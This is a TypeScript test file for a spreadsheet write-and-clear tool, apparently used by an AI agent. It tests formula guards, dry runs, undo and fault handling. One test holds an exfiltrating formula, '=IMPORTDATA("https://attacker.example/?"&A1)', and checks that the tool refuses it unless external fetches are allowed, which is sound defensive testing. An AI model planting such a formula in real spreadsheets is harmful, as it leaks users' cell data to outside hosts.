import { describe, expect, test } from "vitest";
import { clearRanges } from "../../../tools/sheets/clear.js";
import { writeRanges } from "../../../tools/sheets/write.js";
import type { Outgoing } from "../../../tools/tool.js";
import { contextFor, google, withGoogle } from "../context.js";
import { ADA, budget, run, sheetOf, withTabs } from "./world.js";

withGoogle();

type Rows = (string | number | boolean | null)[][];

const write = (range: string, rows: Rows, more: object = {}) =>
  run(writeRanges, {
    spreadsheet_id: budget(),
    data: [{ range, rows }],
    ...more,
  });

/** What was entered into a cell of the budget's first tab. */
function cell(row: number, column: number) {
  const found = sheetOf(budget()).tabs[0]?.rows[row - 1]?.[column];
  return found?.formula ?? found?.value ?? "";
}

const writes = () =>
  google.ledger
    .filter(({ verb }) => verb !== "GET")
    .map(({ method }) => method);

describe("typed values arrive as meant", () => {
  test.each([
    ["user", "2026-01-05", 46_027],
    ["user", "12.5", 12.5],
    ["user", 12.5, 12.5],
    ["user", true, true],
    ["user", "TRUE", true],
    ["user", "'00123", "00123"],
    ["user", "'=not a formula", "=not a formula"],
    ["user", "=1+1", "=1+1"],
    ["raw", "00123", "00123"],
    ["raw", "1-2", "1-2"],
    ["raw", "=not a formula", "=not a formula"],
    ["raw", "2026-01-05", "2026-01-05"],
  ])("%s: %j is %j", async (input, given, expected) => {
    await write("Summary!H1", [[given]], { input });
    expect(cell(1, 7)).toBe(expected);
  });

  test("null keeps a cell and an empty text clears it", async () => {
    await write("Summary!A2", [[null, ""]]);
    expect([cell(2, 0), cell(2, 1)]).toEqual(["Salaries", ""]);
  });
});

describe("the formula guard", () => {
  test.each([
    ["a value", "D2", 5, true],
    ["an empty text", "D2", "", true],
    ["the same formula", "D2", "=C2/B2-1", false],
    ["another formula", "D2", "=1+1", false],
    ["null", "D2", null, false],
    ["a value over a value", "B2", 5, false],
  ])("meets %s at %s", async (_, range, entry, refused) => {
    const rows = [[entry, 1]];
    const call = write(
      `Summary!${range}`,
      range === "D2" ? [[entry, "x"]] : rows,
    );
    if (!refused) return expect((await call).data.written).toBe(true);
    await expect(call).rejects.toThrow("Summary!D2: =C2/B2-1");
    expect(writes()).toEqual([]);
  });

  test("takes formulas in raw input for the texts that they become", async () => {
    await expect(
      write("Summary!D2", [["=1+1"]], { input: "raw" }),
    ).rejects.toThrow("hold formulas");
  });

  test("lets them be replaced when told so", async () => {
    const { data } = await write("Summary!D2", [[5]], {
      overwrite_formulas: true,
    });
    expect(cell(2, 3)).toBe(5);
    expect(data.undo).toMatchObject([
      { arguments: { data: [{ rows: [["=C2/B2-1"]] }] } },
    ]);
  });
});

describe("expected values", () => {
  test.each([
    ["a text", "A2", "Salaries", true],
    ["a number", "B2", 412_000, true],
    ["a number as it shows", "B2", "€412,000.00", true],
    ["a formula", "D2", "=C2/B2-1", true],
    ["an empty cell", "H9", "", true],
    ["anything", "A2", null, true],
    ["another text", "A2", "salaries", false],
    ["another number", "B2", 412_001, false],
    ["an empty cell that is not", "A2", "", false],
    ["something in an empty cell", "H9", 0, false],
  ])("%s in %s: %j", async (_, range, entry, holds) => {
    const call = write("Summary!H1", [["done"]], {
      expect: [{ range: `Summary!${range}`, rows: [[entry]] }],
    });
    if (holds) expect((await call).data.written).toBe(true);
    else await expect(call).rejects.toThrow("do not hold what was expected");
    expect(cell(1, 7)).toBe(holds ? "done" : "");
  });
});

test("a dry run says cell by cell what would change, and changes nothing", async () => {
  const { data, text } = await write("Summary!A2:B2", [["Wages", 1]], {
    dry_run: true,
  });
  expect(data).toMatchObject({
    written: false,
    cells: 2,
    undo: [],
    changes: [
      { cell: "Summary!A2", before: "Salaries", after: "Wages" },
      { cell: "Summary!B2", before: "€412,000.00", after: 1 },
    ],
  });
  expect(text).toContain("nothing was written");
  expect(writes()).toEqual([]);
});

test("one write request for many ranges, which reads back the errors", async () => {
  const { data } = await run(writeRanges, {
    spreadsheet_id: budget(),
    data: [
      { range: "Summary!F1", rows: [["=1/0"]] },
      { range: "Totals", rows: [["All"]] },
    ],
  });
  expect(writes()).toEqual(["sheets.spreadsheets.values.batchUpdate"]);
  expect(data.errors).toEqual([{ cell: "Summary!F1", shows: "#DIV/0!" }]);
  expect(cell(7, 0)).toBe("All");
});

test("rows that do not fit into their range, or beyond the tab, are refused", async () => {
  await expect(write("Summary!A10:B10", [[1, 2, 3]])).rejects.toThrow(
    "do not fit",
  );
  await expect(write("Summary!A1000", [[1], [2]])).rejects.toThrow(
    "do not fit",
  );
  await expect(
    run(writeRanges, {
      spreadsheet_id: budget(),
      data: [
        { range: "A1", rows: [["x"]] },
        { range: "Summary!A1:B1", rows: [["y"]] },
      ],
    }),
  ).rejects.toThrow("Summary!A1 is given twice");
});

test("a fetching formula is refused unless it is allowed [D-15 H-082]", async () => {
  const rows = [['=IMPORTDATA("https://attacker.example/?"&A1)']];
  await expect(write("Summary!H1", rows)).rejects.toThrow("IMPORTDATA");
  expect(writes()).toEqual([]);
  await write("Summary!H1", rows, { allow_external: true });
  expect(cell(1, 7)).toBe(rows[0]?.[0]);
  await write("Summary!H2", rows, { input: "raw" });
});

test("an allowed fetching formula asks leave for what it sends, and whom it asks", async () => {
  const { context } = await contextFor(ADA, ["spreadsheets"], writeRanges);
  const asked: Outgoing[] = [];
  const asking: typeof context = Object.assign(Object.create(context), {
    egress: async (what: Outgoing) => {
      asked.push(what);
      return async () => {};
    },
  });
  const row = ['=IMAGE("https://pics.example/a.png")', "=A1"];
  await writeRanges.run(
    {
      spreadsheet_id: budget(),
      data: [{ range: "Summary!H1", rows: [row] }],
      allow_external: true,
    },
    asking,
  );
  expect(asked).toMatchObject([
    {
      content: [["Summary!H1:I1", [row]]],
      // Without Drive, nobody tells who sees the spreadsheet.
      recipients: ["anyone", "pics.example"],
    },
  ]);
});

describe("a lost answer", () => {
  const method = "sheets.spreadsheets.values.batchUpdate";

  test("is made up for by the cells when the write was done", async () => {
    google.fault({ on: method, kind: "cut", within: "body" });
    const { data } = await write("Summary!H1", [["done"]]);
    expect(data.written).toBe(true);
    expect(data.notes).toEqual([expect.stringContaining("answer was lost")]);
  });

  test("is told when the write was not done", async () => {
    google.fault({ on: method, kind: "status", status: 503 });
    await expect(write("Summary!H1", [["done"]])).rejects.toThrow(
      "still stand as before",
    );
  });
});

test("clearing takes formulas too, and undo brings all of it back", async () => {
  const before = structuredClone(sheetOf(budget()).tabs[0]?.rows);
  const { data } = await run(clearRanges, {
    spreadsheet_id: budget(),
    ranges: ["Summary!A2:D7", "Summary!A2"],
  });
  expect(data.cells).toBe(24);
  expect([cell(2, 0), cell(7, 1)]).toEqual(["", ""]);
  for (const call of undoOf(data)) await run(writeRanges, call.arguments);
  expect(sheetOf(budget()).tabs[0]?.rows).toEqual(before);
});

test("an undo that would be too long is left out, and the note says what helps", async () => {
  const rows = Array.from({ length: 900 }, () => [
    "a long enough text of a cell",
  ]);
  const id = withTabs({ Long: rows });
  const { data } = await run(clearRanges, {
    spreadsheet_id: id,
    ranges: ["Long"],
  });
  expect(data.undo).toEqual([]);
  expect(data.notes).toEqual([expect.stringContaining("Version history")]);
});

const undoOf = (data: Record<string, unknown>) =>
  data.undo as { tool: string; arguments: Record<string, unknown> }[];
